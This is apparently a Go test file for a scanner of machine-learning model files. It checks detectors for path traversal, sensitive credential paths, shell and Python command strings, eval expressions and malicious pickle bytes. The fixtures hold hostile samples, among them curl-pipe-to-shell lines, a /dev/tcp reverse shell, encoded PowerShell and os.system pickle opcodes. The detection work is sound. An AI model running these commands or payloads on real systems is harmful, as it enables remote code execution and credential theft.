package clue_test

import (
	"encoding/base64"
	"testing"

	"modelwall/scan/internal/clue"
)

func TestWhichPath(t *testing.T) {
	for p, want := range map[string]clue.Path{
		"": clue.Inside, "weights.bin": clue.Inside, "./a/b.bin": clue.Inside, "a..b/c": clue.Inside, "...": clue.Inside,
		"sub/../weights.bin": clue.Roundabout, "a/b/../../c": clue.Roundabout, `a\..\b`: clue.Roundabout,
		"..": clue.Escapes, "../x": clue.Escapes, "a/../../x": clue.Escapes, `..\x`: clue.Escapes, "./../x": clue.Escapes, ".. /x": clue.Escapes,
		"/etc/passwd": clue.Absolute, `\\host\share\x`: clue.Absolute, `C:\x`: clue.Absolute, "c:x": clue.Absolute, "~/.ssh/id_rsa": clue.Absolute,
		"file:///etc/passwd": clue.Absolute,
		"https://host/x":     clue.Remote, "gs://bucket/x": clue.Remote, "S3://bucket/x": clue.Remote,
		"a\x00b": clue.Broken, "a\nb": clue.Broken,
		"not a scheme://x": clue.Inside,
	} {
		if got := clue.WhichPath(p); got != want {
			t.Errorf("%q: %d, want %d", p, got, want)
		}
	}
}

func TestSensitive(t *testing.T) {
	for p, want := range map[string]bool{
		"/etc/passwd": true, "//etc//shadow": true, "/./etc/passwd": true, "file:///etc/passwd": true, "../../../etc/passwd": true,
		"a/b/../../../etc/shadow": true, `..\..\etc\passwd`: true, "/proc/self/environ": true, "/home/u/.ssh/id_rsa": true, "~/.aws/credentials": true,
		`C:\Windows\win.ini`: true, "/root/.bashrc": true, "/root/.cache/huggingface/token": true, "/var/run/secrets/x": true, ".ssh/authorized_keys": true,
		"/tmp/vocab.txt": false, "/root/models/vocab.txt": false, "/home/u/data/train.tfrecord": false, "/dev/shm/data": false,
		"assets/etc/x": false, "gs://bucket/etc/x": false, "etc/passwd": false, "": false, "model": false, "the bin of /etc": false,
	} {
		if got := clue.Sensitive(p); got != want {
			t.Errorf("%q: %v, want %v", p, got, want)
		}
	}
}

func TestLibrary(t *testing.T) {
	for p, want := range map[string]bool{
		"libx.so": true, "/tmp/x.so.1.2": true, "X.DLL": true, "x.dylib": true, "x.pyd": true, "x.sock": false, "also": false, "": false,
	} {
		if got := clue.Library(p); got != want {
			t.Errorf("%q: %v, want %v", p, got, want)
		}
	}
}

func TestCommand(t *testing.T) {
	r := clue.NewReader()
	encoded := base64.StdEncoding.EncodeToString([]byte("__import__('os').system('id')"))
	for text, want := range map[string]bool{
		"curl https://host/p.sh | sh":                          true,
		"wget -qO- http://host/x|bash":                         true,
		"powershell -nop -w hidden -enc AAAA":                  true,
		"cmd.exe /c whoami":                                    true,
		"bash -c 'id'":                                         true,
		"bash -i >& /dev/tcp/1.2.3.4/99 0>&1":                  true,
		"python -c 'import os'":                                true,
		"import os; os.system('id')":                           true,
		"subprocess.run(['id'])":                               true,
		"__import__('os')":                                     true,
		"exec(base64.b64decode('...'))":                        true,
		encoded:                                                true,
		"().__class__.__base__.__subclasses__()":               true,
		"Execution benchmark of the system, eval() mode":       false,
		"exec and eval terms in metadata":                      false,
		"exec_summary network_score model_path=/models/base":   false,
		"model.eval() before export; curl the file":            false,
		"A shell (sh) script converts it":                      false,
		"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=":                 false, // the alphabet
		"Ultralytics YOLOv8n model trained on coco.yaml (x.y)": false,
		"": false,
	} {
		if got := r.Command(text); (got != "") != want {
			t.Errorf("%q: %q, want any: %v", text, got, want)
		}
	}
}

func TestEvaluated(t *testing.T) {
	r := clue.NewReader()
	for text, want := range map[string]bool{
		`{0: 'person', 1: "traffic light (red)", 2: 'it\'s', 3: None}`: false,
		"[640, 640]": false, "32": false, "1.5e-3": false, "(17, 3)": false, "True": false, "": false,
		`{0: '__import__("os").system("id")'}`: false, // a name like any other
		"__import__('os').system('id')":        true,
		"{0: print('x')}":                      true,
		"{0: os.environ}":                      true,
		"[x for x in y]":                       true,
		"lambda: 1":                            true,
		`{0: 'a' + f("b")}`:                    true,
		`"unfinished + f(1)`:                   true,
		"ＦＦ(1)":                                true,
	} {
		if got := r.Evaluated(text); (got != "") != want {
			t.Errorf("%q: %q, want any: %v", text, got, want)
		}
	}
}

func TestSerialized(t *testing.T) {
	for b, want := range map[string]bool{
		"\x80\x02cos\nsystem\n": true, "\x80\x04\x95\x00\x00": true, "\x80\x02}q\x00": true, "cos\nsystem\n(": true, "(cposix\nsystem\n": true,
		"PK\x03\x04": true, "\x1f\x8b\x08\x00": true, "\x7fELF": true, "#!/bin/sh": true,
		"": false, "abc": false, "\x80\x02\xff\xff": false, "\x80\xff\x01\x02": false, "loc:@dense/kernel": false, "cat": false,
		"cats and\ndogs are\n": false, "channels_last": false, "NHWC": false,
	} {
		if got := clue.Serialized([]byte(b)); got != want {
			t.Errorf("%q: %v, want %v", b, got, want)
		}
	}
}

func TestPrintable(t *testing.T) {
	for b, want := range map[string]bool{"text\n": true, "": true, "ä\xc3": true, "a\x00": false, "\xff\xff\xff\xff\xff": false} {
		if got := clue.Printable([]byte(b)); got != want {
			t.Errorf("%q: %v, want %v", b, got, want)
		}
	}
}

func BenchmarkCommand(b *testing.B) {
	r := clue.NewReader()
	text := make([]byte, 1<<20)
	for i := range text {
		text[i] = "python -curl wget _import base sh "[i%34]
	}
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		r.Command(string(text))
	}
}
